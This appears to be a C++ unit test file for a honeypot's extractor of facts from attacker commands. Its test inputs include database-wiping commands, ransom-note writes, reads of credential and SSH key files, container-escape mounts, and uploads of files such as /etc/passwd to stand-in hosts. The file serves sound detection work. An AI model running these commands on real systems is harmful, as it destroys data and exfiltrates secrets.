#include "decnet/activity/session_facts.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <rapidcheck.h>

namespace decnet::activity {
namespace {

using testing::IsEmpty;

struct Case {
  std::string name;
  std::vector<std::string> commands;
  std::string facts;  // the payload they make
};

class Facts : public testing::TestWithParam<Case> {};

TEST_P(Facts, AreFoundInCommands) {
  const std::vector<std::string_view> commands(GetParam().commands.begin(),
                                               GetParam().commands.end());
  Json payload = Json::object({});
  add_facts(facts_of(commands), payload);
  EXPECT_EQ(payload.dump(), GetParam().facts);
}

INSTANTIATE_TEST_SUITE_P(
    Databases, Facts,
    testing::ValuesIn(std::vector<Case>{
        {"Client",
         {"mysql -e 'DROP DATABASE shop'"},
         R"({"op_text":"mysql -e 'DROP DATABASE shop'"})"},
        {"Prompt",
         {"mysql -u root", "DROP DATABASE shop;"},
         R"({"op_text":"mysql -u root\nDROP DATABASE shop;"})"},
        {"Redis",
         {"redis-cli -h 192.0.2.1 FLUSHALL"},
         R"({"op_text":"redis-cli -h 192.0.2.1 FLUSHALL"})"},
        {"Elastic",
         {"curl -XDELETE http://192.0.2.1:9200/_all"},
         R"({"op_text":"curl -XDELETE http://192.0.2.1:9200/_all"})"},
        {"NoDatabase", {"rm -rf /", "echo mysql"}, R"({"op_text":"echo mysql"})"},
    }),
    [](const auto& row) { return row.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Notes, Facts,
    testing::ValuesIn(std::vector<Case>{
        {"File",
         {"echo 'pay 1 BTC' > /root/README_RESTORE.txt"},
         R"({"note_text":"echo 'pay 1 BTC' > /root/README_RESTORE.txt"})"},
        {"Motd", {"printf pay >> /etc/motd"}, R"({"note_text":"printf pay >> /etc/motd"})"},
        {"Table",
         {"INSERT INTO warning VALUES ('pay')"},
         R"x({"note_text":"INSERT INTO warning VALUES ('pay')"})x"},
        {"MinersConfig", {R"(echo '{"wallet": "monero"}' > config.json)"}, "{}"},
        {"OnTheScreen", {"echo bitcoin.txt"}, "{}"},
    }),
    [](const auto& row) { return row.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Files, Facts,
    testing::ValuesIn(std::vector<Case>{
        {"Env", {"cd /var/www; cat .env"}, R"({"matched_path":".env"})"},
        {"First",
         {"cat /home/bob/.aws/credentials; cat /home/bob/.ssh/id_rsa"},
         R"({"matched_path":"/home/bob/.aws/credentials"})"},
        {"Token",
         {"cat /var/run/secrets/kubernetes.io/serviceaccount/token"},
         R"({"matched_path":"/var/run/secrets/kubernetes.io/serviceaccount/token"})"},
        {"MadeNotRead", {"ssh-keygen -f /root/.ssh/id_rsa"}, "{}"},
        {"Others", {"cat /etc/hosts", "ls -la /"}, "{}"},
    }),
    [](const auto& row) { return row.param.name; });

INSTANTIATE_TEST_SUITE_P(Tftp, Facts,
                         testing::ValuesIn(std::vector<Case>{
                             {"BusyBox",
                              {"tftp -g -r core1-confg 192.0.2.20"},
                              R"({"tftp_filename":"core1-confg","source_host":"192.0.2.20"})"},
                             {"Classic",
                              {"tftp 192.0.2.20 -c get startup-config"},
                              R"({"tftp_filename":"startup-config","source_host":"192.0.2.20"})"},
                             {"LocalName",
                              {"busybox tftp -l a -r running-config -g 192.0.2.20"},
                              R"({"tftp_filename":"running-config","source_host":"192.0.2.20"})"},
                             {"NoFile", {"tftp 192.0.2.20"}, "{}"},
                         }),
                         [](const auto& row) { return row.param.name; });

INSTANTIATE_TEST_SUITE_P(
    Containers, Facts,
    testing::ValuesIn(std::vector<Case>{
        {"Root",
         {"docker run -it -v /:/mnt alpine chroot /mnt"},
         R"({"signals":["bind:/:/"],"container_image":"alpine"})"},
        {"Privileged",
         {"docker run --privileged --rm --name x -v /etc:/e ubuntu:22.04 sh"},
         R"({"signals":["privileged:true","bind:/etc"],"container_image":"ubuntu:22.04"})"},
        {"Socket",
         {"sudo docker run --volume=/var/run/docker.sock:/s x"},
         R"({"signals":["bind:/var/run/docker.sock"],"container_image":"x"})"},
        {"Mount",
         {"podman run --mount type=bind,source=/,target=/h x"},
         R"({"signals":["bind:/:/"],"container_image":"x"})"},
        {"Named", {"docker run -v data:/var/lib/x postgres"}, R"({"container_image":"postgres"})"},
        {"Listed", {"docker ps -a"}, "{}"},
    }),
    [](const auto& row) { return row.param.name; });

INSTANTIATE_TEST_SUITE_P(Uploads, Facts,
                         testing::ValuesIn(std::vector<Case>{
                             {"Put",
                              {"curl -T a.tgz https://drop.example/a",
                               "curl -F f=@b https://drop.example/b"},
                              R"({"request_count":2,"target_host":"drop.example"})"},
                             {"Post",
                              {"wget --post-file=/etc/passwd http://u@192.0.2.5/x"},
                              R"({"request_count":1,"target_host":"192.0.2.5"})"},
                             {"Download", {"curl -o a https://drop.example/a"}, "{}"},
                         }),
                         [](const auto& row) { return row.param.name; });

TEST(Facts, DoNotReplaceWhatAPayloadSays) {
  const std::vector<std::string_view> commands = {"cat .env"};
  Json payload = Json::object({{"matched_path", "/told"}, {"op_text", ""}});
  add_facts(facts_of(commands), payload);
  EXPECT_EQ(payload.dump(), R"({"matched_path":"/told","op_text":""})");
}

TEST(Facts, AreBounded) {
  const std::string path = "cat /.env" + std::string(2000, 'x');
  const std::string huge = "mysql " + std::string(1 << 20, 'x');
  const std::vector<std::string_view> commands = {path, huge, huge, huge};
  const SessionFacts facts = facts_of(commands);
  EXPECT_THAT(facts.paths, IsEmpty());
  EXPECT_LE(facts.op_text.size(), SessionFacts::kMaxTextBytes + 2);
}

TEST(Facts, AnyTextIsReadToItsEnd) {
  EXPECT_TRUE(rc::check([](const std::vector<std::string>& commands) {
    const std::vector<std::string_view> views(commands.begin(), commands.end());
    (void)facts_of(views);
  }));
}

}  // namespace
}  // namespace decnet::activity
